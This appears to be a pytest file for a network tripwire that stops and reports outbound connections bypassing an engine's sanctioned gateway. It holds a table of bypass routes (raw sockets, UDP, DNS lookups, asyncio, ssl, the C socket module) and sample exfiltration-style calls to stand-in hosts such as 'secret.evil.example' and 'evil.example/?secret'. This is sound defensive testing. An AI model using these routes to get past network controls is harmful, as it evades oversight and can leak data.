"""Ways out of the main process that do not go through the door. Each is really tried, in a process with the tripwire."""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path

import pytest

CHECKOUT = Path(__file__).resolve().parents[2]

# What every trial begins with: the tripwire is set, `told` holds what it reports, and the last line says what came of it.
PROLOGUE = """
import json, sys, os, threading, asyncio
PORT = int(os.environ["PORT"])
import socket, urllib.request, ssl, httpx2
from engine import tripwire
told = []
tripwire.install(lambda attempt: told.append([attempt.what, attempt.host, attempt.port]))
def outcome(trial):
    try:
        trial()
    except BaseException as problem:
        kinds, seen = [], problem
        while seen is not None:
            kinds.append(type(seen).__name__)
            seen = seen.__cause__ or seen.__context__ or getattr(seen, "reason", None)
            seen = seen if isinstance(seen, BaseException) and len(kinds) < 9 else None
        return kinds
    return []
"""

WAYS = {
    "urllib": ("urllib.request.urlopen(f'http://127.0.0.1:{PORT}/', timeout=5)", "socket.getaddrinfo"),
    "urllib, of a proxy": (
        "os.environ.__setitem__('http_proxy', f'http://127.0.0.1:{PORT}') or urllib.request.urlopen('http://x.invalid')",
        "socket.getaddrinfo",
    ),
    "httpx2": ("httpx2.get(f'http://127.0.0.1:{PORT}/')", "socket.getaddrinfo"),
    "httpx2, asynchronous": ("asyncio.run(httpx2.AsyncClient().get(f'http://127.0.0.1:{PORT}/'))", "socket.connect"),
    "a socket": ("socket.socket().connect(('127.0.0.1', PORT))", "socket.connect"),
    "a socket of six": ("socket.socket(socket.AF_INET6).connect(('::1', PORT))", "socket.connect"),
    "a socket that does not wait": (
        "s = socket.socket(); s.setblocking(False); s.connect_ex(('127.0.0.1', PORT))",
        "socket.connect",
    ),
    "a socket in a thread": (
        "t = threading.Thread(target=lambda: kinds.extend(outcome(lambda: socket.socket().connect(('127.0.0.1', PORT))))); "
        "kinds = []; t.start(); t.join(); (_ for _ in ()).throw(PermissionError) if 'Bypassed' in kinds else None",
        "socket.connect",
    ),
    "a name": ("socket.getaddrinfo('secret.evil.example', 443)", "socket.getaddrinfo"),
    "a name, the old way": ("socket.gethostbyname('secret.evil.example')", "socket.gethostbyname"),
    "a name of an address": ("socket.gethostbyaddr('192.0.2.1')", "socket.gethostbyaddr"),
    "a name of a service": ("socket.getnameinfo(('192.0.2.1', 80), 0)", "socket.getnameinfo"),
    "a datagram": ("socket.socket(type=socket.SOCK_DGRAM).sendto(b'secret', ('127.0.0.1', PORT))", "socket.sendto"),
    "a message": ("socket.socket(type=socket.SOCK_DGRAM).sendmsg([b'secret'], [], 0, ('127.0.0.1', PORT))", "socket.sendmsg"),
    "a server": ("socket.create_server(('127.0.0.1', 0))", "socket.bind"),
    "asyncio": ("asyncio.run(asyncio.open_connection('127.0.0.1', PORT))", "socket.connect"),
    "asyncio, by name": ("asyncio.run(asyncio.open_connection('secret.evil.example', 443))", "socket.getaddrinfo"),
    "asyncio, a server": ("asyncio.run(asyncio.start_server(print, '127.0.0.1', 0))", "socket.bind"),
    "the C socket": ("__import__('_socket').socket().connect(('127.0.0.1', PORT))", "socket.connect"),
    "ssl": ("ssl.get_server_certificate(('127.0.0.1', PORT), timeout=5)", "socket.getaddrinfo"),
    "hf_xet": ("__import__('hf_xet')", "import"),
    "hf_xet, by the hub's client": ("exec('from hf_xet import download_files')", "import"),
}


@pytest.fixture(scope="module")
def listener() -> Iterator[socket.socket]:
    """Somebody who would hear: every trial that gets out reaches it."""
    with socket.create_server(("127.0.0.1", 0)) as waiting:
        waiting.settimeout(0.2)
        yield waiting


def run(program: str, port: int, *before: str) -> dict:
    environment = {**os.environ, "PORT": str(port), "PYTHONPATH": str(CHECKOUT), "PYTHONWARNINGS": "ignore"}
    command = [*before, sys.executable, "-c", PROLOGUE + program]
    result = subprocess.run(command, env=environment, cwd=CHECKOUT, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout.splitlines()[-1])


def test_every_way_past_the_door_is_stopped_and_told(listener: socket.socket) -> None:
    """All in one process: a way that was stopped leaves no other one open."""
    trials = "\n".join(
        f"def trial():\n    {way.replace(chr(10), chr(10) + '    ')}\n"
        f"told.clear(); results[{name!r}] = [outcome(trial), list(told)]"
        for name, (way, _) in WAYS.items()
    )
    results = run(f"results = {{}}\n{trials}\nprint(json.dumps(results))", listener.getsockname()[1])
    for name, (_, expected) in WAYS.items():
        kinds, told = results[name]
        assert {"Bypassed", "ImportError", "PermissionError"} & set(kinds), f"{name}: {kinds}"
        assert expected in [what for what, _, _ in told], f"{name}: {told}"
    assert [results["a name"][1][0][1:], results["a socket"][1][0][1:]] == [
        ["secret.evil.example", 443],
        ["127.0.0.1", listener.getsockname()[1]],
    ]
    with pytest.raises(TimeoutError):
        listener.accept()


def test_without_the_tripwire_the_same_ways_are_heard(listener: socket.socket) -> None:
    """So that the silence above means something."""
    environment = {**os.environ, "PORT": str(listener.getsockname()[1]), "PYTHONPATH": str(CHECKOUT)}
    untouched = PROLOGUE.replace("tripwire.install", "str") + "outcome(lambda: socket.socket().connect(('127.0.0.1', PORT)))"
    subprocess.run([sys.executable, "-c", untouched], env=environment, cwd=CHECKOUT, check=True, timeout=60)
    listener.accept()[0].close()


def test_what_the_program_itself_needs_still_works(tmp_path: Path) -> None:
    """Unix sockets of keyrings and event loops, pipes, child processes, pairs of sockets."""
    results = run(
        f"""
def unix():
    server = socket.socket(socket.AF_UNIX); server.bind({str(tmp_path / "s")!r}); server.listen()
    caller = socket.socket(socket.AF_UNIX); caller.connect({str(tmp_path / "s")!r}); caller.sendall(b"x")
    datagram = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); datagram.bind({str(tmp_path / "d")!r})
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", {str(tmp_path / "d")!r})
def loop():
    async def wait():
        loop = asyncio.get_running_loop()
        await asyncio.to_thread(loop.call_soon_threadsafe, print)
        child = await asyncio.create_subprocess_exec(sys.executable, "-c", "print(1)", stdout=-1)
        await child.communicate()
    asyncio.run(wait())
def pair():
    a, b = socket.socketpair(); a.sendall(b"x"); assert b.recv(1) == b"x"
def imports():
    import engine.service, keyring
results = {{each.__name__: outcome(each) for each in (unix, loop, pair, imports)}}
print(json.dumps([results, told]))
""",
        1,
    )
    assert results == [{"unix": [], "loop": [], "pair": [], "imports": []}, []]


def test_a_pair_of_sockets_made_of_the_loopback_address_is_let_through() -> None:
    """Windows has no other; there the event loop wakes itself with one."""
    results = run(
        """
def pair():
    def maker():
        listener = socket.socket(); listener.bind(("127.0.0.1", 0)); listener.listen()
        caller = socket.socket(); caller.connect(listener.getsockname())
        return listener.accept()[0], caller
    made = getattr(socket, "_fallback_socketpair", maker)
    tripwire._PAIR = made.__code__
    a, b = made()
    a.sendall(b"x"); assert b.recv(1) == b"x"
print(json.dumps([outcome(pair), list(told), outcome(lambda: socket.socket().bind(("127.0.0.1", 0)))]))
""",
        1,
    )
    assert results == [[], [], ["Bypassed"]]


def test_the_door_passes_its_own_tripwire_and_nothing_with_it(listener: socket.socket) -> None:
    """What the door may do is one look-up and one call, to the very address; the same thread may do nothing else."""
    results = run(
        """
from tests.network_stage import Notes, open_door
door = open_door(Notes(), f"http://127.0.0.1:{PORT}", stall_s=5)
def fetch():
    with door.fetch("models", f"http://127.0.0.1:{PORT}/", about="x") as answer:
        assert b"".join(answer.chunks(100)) == b"hello"
def beside():
    with tripwire.expected("socket.connect", ("127.0.0.1", PORT + 1)):
        socket.socket().connect(("127.0.0.1", PORT))
def another_kind():
    with tripwire.expected("socket.getaddrinfo", "localhost"):
        socket.socket().connect(("localhost", PORT))
def while_it_runs():
    with door.fetch("models", f"http://127.0.0.1:{PORT}/", about="x") as answer:
        socket.socket().connect(("127.0.0.1", PORT))
print(json.dumps([outcome(fetch), list(told), outcome(beside), outcome(another_kind), outcome(while_it_runs), len(told)]))
""",
        answering(listener, 2),
    )
    assert results == [[], [], ["Bypassed"], ["Bypassed"], ["Bypassed"], 3]


def answering(listener: socket.socket, n_times: int) -> int:
    def answer() -> None:
        for _ in range(n_times):
            listener.settimeout(30)
            with closing(listener.accept()[0]) as caller:
                caller.recv(10_000)
                caller.sendall(b"HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\nhello")

    threading.Thread(target=answer, daemon=True).start()
    return int(listener.getsockname()[1])


def test_it_can_be_set_twice_and_who_is_told_may_fail_or_try_itself(listener: socket.socket) -> None:
    results = run(
        """
late = []
def tell(attempt):
    late.append(attempt.what)
    socket.getaddrinfo("told.evil.example", 1)
tripwire.install(tell)
kinds = outcome(lambda: socket.socket().connect(("127.0.0.1", PORT)))
print(json.dumps([kinds, late, told]))
""",
        listener.getsockname()[1],
    )
    assert results == [["Bypassed"], ["socket.connect"], []]


def test_what_is_tried_before_anybody_listens_is_stopped_and_told_later(listener: socket.socket) -> None:
    results = run(
        """
tripwire._report = None
kinds = [outcome(lambda: socket.socket().connect(("127.0.0.1", PORT + n))) for n in range(60)]
silent = list(told)
tripwire.install()
tripwire.report_to(lambda attempt: told.append([attempt.what, attempt.port - PORT]))
print(json.dumps([{str(kind) for kind in kinds} == {"['Bypassed']"}, silent, told]))
""",
        listener.getsockname()[1],
    )
    assert results == [True, [], [["socket.connect", n] for n in range(10, 60)]], "the last fifty of them"


def test_an_attempt_reaches_the_log_of_the_door(listener: socket.socket) -> None:
    results = run(
        """
from tests.network_stage import Notes
from engine.network import NetworkDoor
notes, kept = Notes(), threading.Event()
door = NetworkDoor(notes, publish=lambda _: kept.set())
tripwire.install(door.report_bypass)
outcome(lambda: urllib.request.urlopen("https://evil.example/?secret"))
kept.wait(10)
print(json.dumps([[each.outcome, each.reason, each.host, each.about] for each in notes.begun]))
""",
        listener.getsockname()[1],
    )
    assert results == [["refused", "bypass", "evil.example", "socket.getaddrinfo"]]


# ---------------------------------------------------------------- what the cable sees
# In a network of its own, whose only way is the loopback device, every packet is counted by the kernel. Names would be
# asked of a server on it, so a look-up would be counted as well.
COUNTED = """
import subprocess
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
def packets():
    line = next(line for line in open("/proc/net/dev") if "lo:" in line)
    return int(line.split(":")[1].split()[1])
from tests.network_stage import Notes, open_door, policy_for
from engine.policy import NetworkPolicy, hosts_of_hub
from engine.network import NetworkDoor
hosts = {"models": hosts_of_hub("https://huggingface.co") | hosts_of_hub("http://127.0.0.1:9")}
door = NetworkDoor(Notes())
def closed():
    door.use(NetworkPolicy(frozenset(), hosts), "http://127.0.0.1:9")
    for url in ("https://huggingface.co/", "http://127.0.0.1:9/"):
        outcome(lambda: door.fetch("models", url, about="x").__enter__())
        outcome(lambda: door.client("models", "x", timeout_s=1).get(url))
    door.state()
    for way in (lambda: urllib.request.urlopen("http://127.0.0.1:9/"), lambda: socket.gethostbyname("secret.evil.example"),
                lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 9)), lambda: __import__("hf_xet")):
        outcome(way)
def opened():
    door.use(NetworkPolicy(frozenset({"models"}), hosts), "none")
    outcome(lambda: door.fetch("models", "http://127.0.0.1:9/", about="x").__enter__())
before = packets(); closed(); after = packets(); opened()
print(json.dumps([before, after, packets()]))
"""


def own_network() -> list[str] | None:
    """The words before a command that give it a network of its own; None where this user may not have one."""
    for command in (["unshare", "-n"], ["unshare", "-rn"]):
        if shutil.which("unshare") and shutil.which("ip"):
            trial = subprocess.run([*command, "ip", "link", "set", "lo", "up"], capture_output=True, timeout=20)
            if trial.returncode == 0:
                return command
    return None


def test_a_closed_door_sends_no_packet() -> None:
    command = own_network()
    if command is None:
        pytest.skip("this system gives nobody here a network of its own, so there is nothing to count packets on")
    before, after, opened = run(COUNTED, 9, *command)
    assert before == after, "closed: not one packet"
    assert opened > after, "open: the count does count"
